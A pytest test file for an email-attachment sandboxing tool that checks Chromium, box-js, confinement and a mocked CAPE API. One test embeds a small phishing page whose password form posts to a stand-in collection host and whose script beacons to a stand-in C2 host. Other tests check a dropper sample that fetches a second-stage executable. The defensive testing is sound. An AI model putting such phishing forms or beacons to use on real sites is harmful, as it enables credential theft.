"""The sandbox backends for real: Chromium, box-js, confinement, and a CAPE API."""

from __future__ import annotations

import json
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from mailward.attachments.sandbox import CLEAN, MALICIOUS, SUSPICIOUS, Sample
from mailward.attachments.sandbox.boxjs import BoxJsSandbox, find_boxjs
from mailward.attachments.sandbox.browser import BrowserSandbox
from mailward.attachments.sandbox.cape import CapeSandbox
from mailward.attachments.sandbox.confine import Limits, isolation_available, run_confined
from tests.attachments import samples
from tests.conftest import need

LIMITS = Limits(seconds=40, memory=2 * 1024 ** 3)


@pytest.fixture
def browser(tmp_path):
    need(BrowserSandbox.available("/usr/bin/chromium"), "Debian's chromium and playwright")
    need(isolation_available(), "user and network namespaces (unshare)")
    return BrowserSandbox("/usr/bin/chromium", tmp_path, LIMITS)


@pytest.fixture
def boxjs(tmp_path):
    program = find_boxjs("", tmp_path)
    need(program is not None, "box-js (npm install box-js)")
    need(isolation_available(), "user and network namespaces (unshare)")
    return BoxJsSandbox(program, tmp_path, LIMITS)


def detonate(backend, sample):
    return backend.poll(backend.submit(sample))


def test_html_smuggling_download_is_malicious(browser):
    page = samples.smuggling_page(samples.zip_of({"a.js": samples.JS_DROPPER}))
    report = detonate(browser, Sample("invoice.html", page, "html"))
    assert report.verdict == MALICIOUS
    [download] = report.evidence["downloads"]
    assert download["name"] == "invoice.zip" and download["kind"] == "zip"


def test_disguised_smuggling_is_seen_only_when_run(browser):
    report = detonate(browser, Sample("scan.html", samples.disguised_smuggling_page(), "html"))
    assert report.verdict == MALICIOUS
    assert report.evidence["downloads"][0]["name"] == "scan.zip"


def test_password_form_posting_elsewhere_and_blocked_requests(browser):
    page = (b"<html><body><img src='https://tracker.example.net/p.gif'>"
            b"<form action='https://collect.example.net/login' method='post'>"
            b"<input name='u'><input type='password' name='p'></form><script>"
            b"fetch('https://c2.example.net/beacon').catch(function(){});</script></body></html>")
    report = detonate(browser, Sample("login.html", page, "html"))
    assert report.verdict == MALICIOUS
    blocked = {r["url"] for r in report.evidence["blocked"]}
    assert {"https://tracker.example.net/p.gif", "https://c2.example.net/beacon"} <= blocked
    assert report.evidence["password_fields"] == 1


def test_clean_page_is_clean(browser):
    report = detonate(browser, Sample("menu.html", samples.CLEAN_PAGE, "html"))
    assert report.verdict == CLEAN, report.summary
    assert report.evidence["title"] == "Menu of the day"


def test_js_dropper_under_boxjs_is_malicious(boxjs):
    report = detonate(boxjs, Sample("invoice.js", samples.JS_DROPPER, "script-js"))
    assert report.verdict == MALICIOUS, report.summary
    assert "http://payload.example.net/stage2.exe" in report.evidence["urls"]
    assert any("stage2.exe" in f for f in report.evidence["files_written"])


def test_harmless_script_under_boxjs_is_clean(boxjs):
    report = detonate(boxjs, Sample("sum.js", samples.HARMLESS_JS, "script-js"))
    assert report.verdict == CLEAN, report.summary


def test_confined_child_has_no_network_and_limits(tmp_path):
    need(isolation_available(), "user and network namespaces (unshare)")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    code = ("import socket,resource,sys\n"
            f"try:\n socket.create_connection(('127.0.0.1',{port}),timeout=3); print('reached')\n"
            "except OSError as e: print('blocked')\n"
            "print(resource.getrlimit(resource.RLIMIT_FSIZE)[0])\n")
    outcome = run_confined([sys.executable, "-c", code], tmp_path / "job",
                           Limits(seconds=20, memory=1024 ** 3, file_size=12345))
    listener.close()
    lines = outcome.stdout.decode().split()
    assert lines == ["blocked", "12345"]


def test_runaway_child_is_killed_at_the_time_limit(tmp_path):
    need(isolation_available(), "user and network namespaces (unshare)")
    outcome = run_confined([sys.executable, "-c", "while True: pass"], tmp_path / "job",
                           Limits(seconds=2, memory=1024 ** 3))
    assert outcome.timed_out and outcome.seconds < 10


class CapeServer:
    """A local HTTP server speaking CAPE's submit, status and report endpoints."""

    def __init__(self, malscore: float = 8.5, finish_after: int = 1) -> None:
        self.malscore = malscore
        self.finish_after = finish_after
        self.polls = 0
        self.submitted: list[bytes] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def answer(self, data):
                body = json.dumps(data).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                length = int(self.headers.get("Content-Length", 0))
                outer.submitted.append(self.rfile.read(length))
                if self.path.endswith("/tasks/create/file/"):
                    self.answer({"error": False, "data": {"task_ids": [41]}})
                else:
                    self.send_error(404)

            def do_GET(self):
                if self.path.endswith("/tasks/view/41/"):
                    outer.polls += 1
                    done = outer.finish_after and outer.polls >= outer.finish_after
                    self.answer({"error": False,
                                 "data": {"status": "reported" if done else "running"}})
                elif self.path.endswith("/tasks/get/report/41/json/"):
                    self.answer({"malscore": outer.malscore, "malfamily": "TestFamily",
                                 "signatures": [{"name": "dropper"}, {"name": "persistence"}]})
                else:
                    self.send_error(404)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/apiv2"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def cape_server():
    server = CapeServer(finish_after=2)
    yield server
    server.stop()


def test_cape_submit_poll_report(cape_server):
    cape = CapeSandbox(cape_server.url, token="t0ken")
    ticket = cape.submit(Sample("a.exe", b"MZ" + b"\0" * 100, "pe"))
    assert ticket == "41"
    assert cape.poll(ticket) is None
    report = cape.poll(ticket)
    assert report.verdict == MALICIOUS
    assert report.evidence["signatures"] == ["dropper", "persistence"]
    assert b"MZ" in cape_server.submitted[0]


def test_cape_score_thresholds():
    cape = CapeSandbox("http://127.0.0.1:9/", malicious=7, suspicious=4)
    assert cape.judge("1", {"malscore": 5.0}).verdict == SUSPICIOUS
    assert cape.judge("1", {"malscore": 1.0}).verdict == CLEAN
